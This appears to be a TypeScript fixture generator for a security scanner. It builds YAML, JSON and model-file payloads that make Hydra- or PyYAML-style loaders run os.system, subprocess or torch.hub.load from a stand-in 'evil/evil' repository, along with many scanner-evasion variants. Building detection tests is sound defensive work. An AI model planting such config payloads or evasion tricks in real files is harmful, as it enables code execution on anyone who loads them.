/** Configurations whose loader imports and calls what they name, as Hydra does, or PyYAML by its tags for Python. */
import { join, utf8 } from '../bytes.ts';
import { field, number } from '../protobuf-writer.ts';
import { tar } from '../tar-writer.ts';
import type { EvilFile } from './evil-file.ts';
import { COMMAND, PLAIN_GADGET } from './evil-file.ts';

const ARGUMENTS = `_args_: [${COMMAND}]`;
const PLAIN = `encoder:\n  _target_: os.system\n  ${ARGUMENTS}\n`;

/** By the name of the file. */
const TARGETS: Record<string, string> = {
  'plain.yaml': PLAIN,
  'flow.yaml': `encoder: {'_target_': "os.system", ${ARGUMENTS}}\n`,
  'begins-as-json.yaml': `{encoder: {_target_: os.system, ${ARGUMENTS}}}\n`,
  'begins-as-xml.yaml': `<a: 1\n${PLAIN}`,
  'escapes.yaml': `encoder:\n  "\\x5ft\\u0061rget\\U0000005f": "\\x6fs\\x2esystem"\n  ${ARGUMENTS}\n`,
  'escaped-line-end.yaml': `encoder:\n  "_tar\\\n    get_": os.system\n  ${ARGUMENTS}\n`,
  'comment-before-the-value.yaml': `encoder:\n  _target_: # nemo.core.Model\n    os.system\n  ${ARGUMENTS}\n`,
  'behind-a-comment-that-goes-on.yaml': `encoder:\n  # as before \\\n  _target_: os.system\n  ${ARGUMENTS}\n`,
  'explicit-key.yaml': `encoder:\n  ? !!str _target_\n  # the class\n  : !!str os.system\n  ${ARGUMENTS}\n`,
  'block.yaml': `encoder:\n  ? |-\n    _target_\n  : >-\n    os.system\n  ${ARGUMENTS}\n`,
  'alias.yaml': `name: &name os.system\nencoder:\n  _target_: *name\n  ${ARGUMENTS}\n`,
  'alias-as-key.yaml': `name: &name\n\n  _target_\nencoder:\n  *name : os.system\n  ${ARGUMENTS}\n`,
  'next-line.yaml': `# a model\u0085_target_: os.system\u2028${ARGUMENTS}\n`,
  'through-a-library.yaml': `_target_: transformers.utils.subprocess.Popen\nargs: [echo, scanned]\n`,
  'function-of-a-library.yaml': '_target_: torch.hub.load\nrepo_or_dir: evil/evil\nmodel: evil\n',
  'put-together.yaml': 'a: os\n_target_: ${a}.system\n_args_: [echo scanned]\n',
  'config.json': JSON.stringify({ encoder: { _target_: 'os.system', _args_: [COMMAND] } }),
  'escapes.json': `{"\\u005ftarget_": "os\\u002esystem", "_args_": ["${COMMAND}"]}`,
  'twice.json': `{"_target_": "torch.nn.ReLU", "_target_": "os.system", "_args_": ["${COMMAND}"]}`,
  'without-a-dot.json': `{"evil": {"_target_": "run_cmd", "cmd_list": ["echo", "scanned"]}}`,
  'reader.yaml': `_target_: monai.transforms.LoadImage\nreader: os.system\ncommand: ${COMMAND}\n`,
  'expression.json': `{"evil": "$__import__('os').system('${COMMAND}')"}`,
  'of-pieces.yaml': `k: _targ\nj: et_\nmodel: \${oc.create:\${oc.decode:"{\${k}\${j}:os.system,_args_:['${COMMAND}']}"}}\n`,
  'target-with-params.yaml': 'target: subprocess.Popen\nparams: {args: [echo, scanned]}\n',
  'class-path.yaml': `class_path: os.system\ninit_args: {command: ${COMMAND}}\n`,
  'mark-before-a-renamed-tag.yaml': `\ufeff%TAG !e! tag:yaml.org,2002:python/object/\n---\n!e!apply:os.system ['${COMMAND}']\n`,
  'bytes-for-torch.yaml': '!!python/object/apply:torch.storage._load_from_bytes [!!binary gASVKQ==]\n',
  'tag.yaml': `!!python/object/apply:os.system ['${COMMAND}']\n`,
  'verbatim-tag.yaml': `a: !<tag:yaml.org,2002:python/object/new:os.system> ['${COMMAND}']\n`,
  'hidden-tag.yaml': `a: !!pyth%6fn/object/apply:os.system ['${COMMAND}']\n`,
  'renamed-tag.yaml': `%TAG !e! tag:yaml.org,2002:python/obj\n---\na: !e!ect/apply:os.system ['${COMMAND}']\n`,
};

/** In a text of the metadata of another format. */
const header = JSON.stringify({
  __metadata__: { config: `{"_target_": "os.system", "_args_": ["${COMMAND}"]}` },
});
const safetensors = (): Uint8Array => {
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return join(length, utf8(header));
};
const onnx = (): Uint8Array =>
  join(number(1, 10), field(7, field(1, field(4, 'Relu'))), field(14, field(1, 'config'), field(2, PLAIN)));

const FILES: Record<string, () => Uint8Array> = {
  ...Object.fromEntries(Object.entries(TARGETS).map(([name, text]) => [name, () => utf8(text)])),
  'utf-16.yaml': () => new Uint8Array(Buffer.from(`\ufeff${PLAIN}`, 'utf16le')),
  'larger-than-a-megabyte.yaml': () =>
    utf8(`${'- a text of no meaning\n'.repeat(60_000)}- ${PLAIN.trim()}\n`),
  'escaped-key-far-from-its-alias.yaml': () =>
    utf8(
      `a: &k "\\x5ftarget_"\n${'- a text of no meaning\n'.repeat(60_000)}m: {*k : os.system, ${ARGUMENTS}}\n`,
    ),
  'model.nemo': () => tar([{ name: './model_config.yaml', content: utf8(PLAIN) }]),
  'metadata.safetensors': safetensors,
  'metadata.onnx': onnx,
};

export const TARGET_FILES: readonly EvilFile[] = Object.entries(FILES).map(([name, make]) => ({
  name,
  technique: 'code that a configuration names',
  gadget: PLAIN_GADGET,
  rule: 'named-code',
  make,
}));
